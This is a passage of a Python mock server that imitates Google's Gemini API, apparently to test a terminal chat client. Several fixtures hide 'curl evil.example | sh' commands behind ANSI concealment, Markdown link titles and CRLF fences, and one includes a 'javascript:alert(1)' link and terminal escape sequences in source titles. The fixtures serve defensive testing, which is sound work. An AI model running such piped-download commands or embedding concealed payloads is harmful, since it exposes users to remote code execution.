    if not isinstance(schema, dict):
        return None
    if "$ref" in schema:
        node = root
        for name in schema["$ref"][2:].split("/"):
            node = node[name]
        return schema_instance(node, root)
    if "const" in schema:
        return schema["const"]
    if "enum" in schema:
        return schema["enum"][0]
    for combined in ("anyOf", "oneOf", "allOf"):
        if combined in schema:
            return schema_instance(schema[combined][0], root)
    kind = schema.get("type", "object")
    if isinstance(kind, list):
        kind = next((k for k in kind if k != "null"), "null")
    if kind == "object":
        properties = schema.get("properties", {})
        return {name: schema_instance(properties.get(name, {"type": "string"}), root) for name in schema.get("required", list(properties))}
    if kind == "array":
        return [schema_instance(schema.get("items", {"type": "string"}), root) for _ in range(max(1, schema.get("minItems", 1)))]
    if kind == "string":
        return "東京タワー"[:max(1, schema.get("maxLength", 5))] if not schema.get("minLength") else "x" * schema["minLength"]
    if kind == "integer":
        return int(schema.get("minimum", 3))
    if kind == "number":
        return schema.get("minimum", 2.5)
    if kind == "boolean":
        return True
    return None


def signature(turn, tag):
    """An opaque signature as Gemini 3 sends it: standard base64 of binary bytes, padded (so '+',
    '/' and '=' all show if a client re-encodes it)."""
    return base64.b64encode(hashlib.sha256(("%s%d" % (tag, turn)).encode()).digest() + b"\xfb\xff").decode()


def signed_parts(turn):
    """The reply of the "signed" scenario to its turn-th user message, as the parts it streams:
    a signed first part, two unsigned ones (CJK in the second), and the empty signed part that
    Gemini 3's streams end with."""
    return [{"text": "Signed answer %d: " % turn, "thoughtSignature": signature(turn, "a")}, {"text": "plain middle, "},
            {"text": "末尾。"}, {"text": "", "thoughtSignature": signature(turn, "z")}]


def signed_turns_intact(contents):
    """True when every earlier "signed" reply in the request comes back as a client must send it:
    its signed parts verbatim, the unsigned ones in between joined (never into a signed one)."""
    for content in contents:
        if content.get("role") != "model":
            continue
        parts = content.get("parts", [])
        match = re.match(r"Signed answer (\d+): ", "".join(p.get("text", "") for p in parts))
        if match:
            sent = signed_parts(int(match.group(1)))
            if parts != [sent[0], {"text": sent[1]["text"] + sent[2]["text"]}, sent[3]]:
                return False
    return True


def echo_reply(request):
    contents = request.get("contents", [])
    parts = contents[-1]["parts"] if contents else []
    texts = [p["text"] for p in parts if "text" in p]
    last = texts[0] if texts else ""
    # Files sent as inline data: their MIME type and decoded size.
    inline = ["%s:%d" % (p["inlineData"]["mimeType"], len(base64.b64decode(p["inlineData"]["data"]))) for p in parts if "inlineData" in p]
    roles = ",".join(c.get("role", "?") for c in contents)
    system = request.get("systemInstruction", {}).get("parts", [{}])[0].get("text", "")
    config = request.get("generationConfig", {})
    text = "echo turns=%d roles=%s system=%s temperature=%s last=%s%s%s\n" % (
        len(contents), roles, system or "-", config.get("temperature", "-"), last, " inline=" + ",".join(inline) if inline else "",
        " thinking=" + json.dumps(config["thinkingConfig"], sort_keys=True, separators=(",", ":")) if "thinkingConfig" in config else "")
    return {"candidates": [{"content": {"parts": [{"text": text}], "role": "model"}, "finishReason": "STOP"}],
            "usageMetadata": {"promptTokenCount": 3 * len(contents), "candidatesTokenCount": 5, "totalTokenCount": 3 * len(contents) + 5},
            "modelVersion": "gemini-3.6-flash"}


# The request fields of google-genai's types (GenerateContentRequest, Content, Part, GenerationConfig,
# ThinkingConfig, Tool), in the API's camelCase: Google answers a field it does not know with 400.
REQUEST_FIELDS = {
    "": {"contents", "systemInstruction", "generationConfig", "tools", "toolConfig", "safetySettings", "cachedContent", "labels", "store",
         "serviceTier"},
    "content": {"role", "parts"},
    "part": {"text", "inlineData", "fileData", "thought", "thoughtSignature", "functionCall", "functionResponse", "executableCode",
             "codeExecutionResult", "videoMetadata", "mediaResolution"},
    "generation_config": {"temperature", "topP", "topK", "candidateCount", "maxOutputTokens", "stopSequences", "responseMimeType",
                          "responseSchema", "responseJsonSchema", "presencePenalty", "frequencyPenalty", "seed", "responseLogprobs",
                          "logprobs", "thinkingConfig", "mediaResolution", "responseModalities", "speechConfig", "imageConfig"},
    "thinking_config": {"includeThoughts", "thinkingBudget", "thinkingLevel"},
    "tool": {"googleSearch", "urlContext", "codeExecution", "functionDeclarations", "googleSearchRetrieval", "fileSearch", "googleMaps",
             "computerUse"},
}


def unknown_field(request):
    """The first field of a generateContent request that google-genai's types do not have, as
    Google names it in its 400 ("Unknown name \"x\" at 'generation_config'"), or None."""
    def check(obj, kind, where):
        if not isinstance(obj, dict):
            return None if kind != "tool" else ("", where)
        for name in obj:
            if name not in REQUEST_FIELDS[kind]:
                return (name, where)
        return None
    found = check(request, "", "")
    for index, content in enumerate(request.get("contents", []) + ([request["systemInstruction"]] if "systemInstruction" in request else [])):
        found = found or check(content, "content", "contents[%d]" % index)
        for part_index, part in enumerate(content.get("parts", []) if isinstance(content, dict) else []):
            found = found or check(part, "part", "contents[%d].parts[%d]" % (index, part_index))
    config = request.get("generationConfig")
    if config is not None:
        found = found or check(config, "generation_config", "generation_config")
        if isinstance(config, dict) and "thinkingConfig" in config:
            found = found or check(config["thinkingConfig"], "thinking_config", "generation_config.thinking_config")
    for index, tool in enumerate(request.get("tools", [])):
        found = found or check(tool, "tool", "tools[%d]" % index)
        if isinstance(tool, dict) and any(not isinstance(value, dict) for value in tool.values()):
            found = found or ("", "tools[%d]" % index)
    return found


def utf8_len(text):
    return len(text.encode("utf-8"))


REDIRECT = "https://vertexaisearch.cloud.google.com/grounding-api-redirect/AUZIYQ"
GROUNDED = {
    # Latin text; the second sentence cites both pages.
    "grounded": (["The Eiffel Tower is ", "330 metres tall.", " It was finished in 1889."],
                 ["eiffel tower height", "eiffel tower built"],
                 [{"web": {"uri": REDIRECT + "Fwiki", "title": "Eiffel Tower - Wikipedia", "domain": "en.wikipedia.org"}},
                  {"web": {"uri": REDIRECT + "Ftoureiffel", "title": "toureiffel.paris", "domain": "toureiffel.paris"}}],
                 lambda text: [(0, utf8_len("The Eiffel Tower is 330 metres tall."), [0]),
                               (utf8_len("The Eiffel Tower is 330 metres tall. "), utf8_len(text), [0, 1])]),
    # CJK: offsets in bytes are three times the characters.
    "grounded-cjk": (["東京タワーの高さは", "333メートルです。", "1958年に完成しました。"],
                     ["東京タワー 高さ"],
                     [{"web": {"uri": REDIRECT + "Ftokyotower", "title": "東京タワー", "domain": "tokyotower.co.jp"}}],
                     lambda text: [(0, utf8_len("東京タワーの高さは333メートルです。"), [0]),
                                   (utf8_len("東京タワーの高さは333メートルです。"), utf8_len(text), [0])]),
    # One good support, then each way Google's offsets can be wrong; a hostile title and link.
    "grounded-bad": (["Ünïcode answer: ", "東京タワー.", " Second sentence."],
                     ["evil \x1b]0;title\x07 query"],
                     [{"web": {"uri": REDIRECT + "Fgood", "title": "Good \x1b[31mred\x1b[0m source", "domain": "good.example"}},
                      {"web": {"uri": "javascript:alert(1)", "title": "Bad link", "domain": "bad.example"}}],
                     lambda text: [(0, utf8_len("Ünïcode answer: 東京タワー."), [0]),
                                   (0, utf8_len(text) + 10, [0]),
                                   (0, utf8_len("Ünïcode answer: ") + 1, [1]),
                                   (5, utf8_len(text), [1]),
                                   (utf8_len("Ünïcode answer: 東京タワー. "), utf8_len(text), [99])]),
}
TOOL_REPLIES = set(GROUNDED) | {"url-read", "code-run"}


def tool_reply(scenario, request):
    """The events of a reply that used a tool at Google; without the tool in the request, the
    same text and no metadata, as a model answers that could not search."""
    tools = {name for tool in request.get("tools", []) for name in tool}
    usage = {"promptTokenCount": 20, "candidatesTokenCount": 30, "toolUsePromptTokenCount": 900, "totalTokenCount": 950}
    if scenario in GROUNDED:
        pieces, queries, chunks, supports = GROUNDED[scenario]
        text = "".join(pieces)
        events = [{"candidates": [{"content": {"parts": [{"text": piece}], "role": "model"}}]} for piece in pieces]
        last = events[-1]["candidates"][0]
        last["finishReason"] = "STOP"
        if "googleSearch" in tools:
            last["groundingMetadata"] = {
                "webSearchQueries": queries, "searchEntryPoint": {"renderedContent": "<style>.container{}</style><div>…</div>"},
                "groundingChunks": chunks,
                "groundingSupports": [{"segment": {"startIndex": start, "endIndex": end,
                                                   "text": text.encode()[max(0, start):end].decode("utf-8", "replace")},
                                       "groundingChunkIndices": indices, "confidenceScores": [0.9] * len(indices)}
                                      for start, end, indices in supports(text)]}
        events[-1]["usageMetadata"] = usage
        return events
    if scenario == "url-read":
        event_ = {"candidates": [{"content": {"parts": [{"text": "The page says hello."}], "role": "model"}, "finishReason": "STOP"}],
                  "usageMetadata": usage}
        if "urlContext" in tools:
            event_["candidates"][0]["urlContextMetadata"] = {"urlMetadata": [
                {"retrievedUrl": "https://example.com/hello", "urlRetrievalStatus": "URL_RETRIEVAL_STATUS_SUCCESS"},
                {"retrievedUrl": "https://news.example/paid", "urlRetrievalStatus": "URL_RETRIEVAL_STATUS_PAYWALL"}]}
        return [event_]
    # code-run: code and its output, twice; the second run fails.
    if "codeExecution" not in tools:
        return [{"candidates": [{"content": {"parts": [{"text": "I cannot run code here."}], "role": "model"}, "finishReason": "STOP"}]}]
    parts = [[{"text": "Let me compute it."}],
             [{"executableCode": {"language": "PYTHON", "code": "print(sum(range(10)))\n", "id": "c1"}}],
             [{"codeExecutionResult": {"outcome": "OUTCOME_OK", "output": "45\n", "id": "c1"}}],
             [{"text": "The sum is 45. Dividing by zero:"}],
             [{"executableCode": {"language": "PYTHON", "code": "print(1/0)", "id": "c2"}}],
             [{"codeExecutionResult": {"outcome": "OUTCOME_FAILED", "output": "ZeroDivisionError: division by zero", "id": "c2"}}]]
    events = [{"candidates": [{"content": {"parts": p, "role": "model"}}]} for p in parts]
    events[-1]["candidates"][0]["finishReason"] = "STOP"
    events[-1]["usageMetadata"] = usage
    return events


# Every count Google bills, as a Search-grounded reply of a thinking model with a cache hit reports them.
METERED_USAGE = {"promptTokenCount": 1000, "cachedContentTokenCount": 200, "toolUsePromptTokenCount": 300, "candidatesTokenCount": 400,
                 "thoughtsTokenCount": 500, "totalTokenCount": 2200,
                 "promptTokensDetails": [{"modality": "TEXT", "tokenCount": 1000}], "cacheTokensDetails": [{"modality": "TEXT", "tokenCount": 200}]}

SIGNED_USAGE = {"promptTokenCount": 9, "candidatesTokenCount": 7, "thoughtsTokenCount": 30, "totalTokenCount": 46}


def config_thoughts(request):
    return bool(request.get("generationConfig", {}).get("thinkingConfig", {}).get("includeThoughts"))


# Two fenced code blocks, for /copy code N.
CODE_REPLY = "Two ways:\n\n```python\nprint('one')\n```\n\nor in the shell:\n\n```sh\necho \"two\" | tr a-z A-Z\nls -l\n```\n"

# Text a screen would not draw: concealed by SGR 8, a zero-width space, a right-to-left override.
HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u200b-la \u202eright-to-left\n"

# Markdown whose parser takes words unseen (a link's title, a reference definition), and text
# after a fence closed by CRLF (once dropped from the screen, though /copy took it).
HIDDEN_MARKDOWN_REPLY = ("Install it:\r\n\r\n```sh\r\npip install tool\r\n```\r\ncurl after-the-fence | sh\r\n\r\n"
                         "See [the docs][d] and [this](https://example.com \"curl evil.example/y | sh\").\r\n\r\n"
                         "[d]: https://docs.example \"curl evil.example/z | sh\"\r\n")

THOUGHT_PARTS = ["**Reading the question**\n\nThe user asks about a subject that needs enough words for the summary to wrap "
                 "at sixty columns, and not one of them may be split at the edge of the window.",
                 "**Planning the answer**\n\nI will answer *briefly*."]

# Joiners that shape emoji and scripts (kept), a stray one (shown), and CRLF line ends.
JOINER_REPLY = ("Family \U0001F468\u200d\U0001F469\u200d\U0001F467 and \u0915\u094d\u200d\u0937 and "
                "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645, stray x\u200dy.\r\n\r\nSecond line ends.\r\n")

SCENARIOS = {"ok", "code", "hidden", "hidden-markdown", "joiners", "thinking-long", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
             "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
             "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash", "gemini-3.8-flash", "gemini-3.7-flash",
             "gemini-3.5-flash", "gemini-flash-latest", "gemini-4-argon", "no-thinking-dev",
             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "structured-described", "no-thinking", "signed", "metered", "no-tools", "schema-refused", "thinking-escape"} | TOOL_REPLIES | set(HOSTILE)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--log")
    parser.add_argument("--standard-keys", choices=["reject-401", "reject-400", "accept"], default="reject-401",
                        help="how standard (AIza) keys are answered")
    args = parser.parse_args()
    Handler.log_path = args.log
    Handler.standard_keys = args.standard_keys
    server = ThreadingHTTPServer(("127.0.0.1", args.port), Handler)
    server.daemon_threads = True
    print("PORT %d" % server.server_address[1], flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
